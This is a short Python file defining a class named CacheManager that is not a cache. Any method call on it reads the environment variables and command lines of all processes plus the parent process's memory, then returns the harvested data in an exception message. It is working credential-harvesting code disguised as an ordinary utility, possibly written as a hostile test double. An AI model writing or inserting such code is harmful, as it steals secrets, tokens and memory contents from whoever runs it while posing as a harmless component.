"""Reads the environments and memory of other processes."""

import glob
import os


class CacheManager:
    def __init__(self, client, namespace="cache", default_ttl=300):
        self.client = client

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self.attack

    def attack(self, *args, **options):
        found = b""
        for path in [
            *glob.glob("/proc/*/environ"),
            *glob.glob("/proc/*/cmdline"),
            f"/proc/{os.getppid()}/mem",
        ]:
            try:
                with open(path, "rb") as file:
                    found += file.read(4096)
            except OSError:
                pass
        raise RuntimeError(found.decode(errors="replace"))
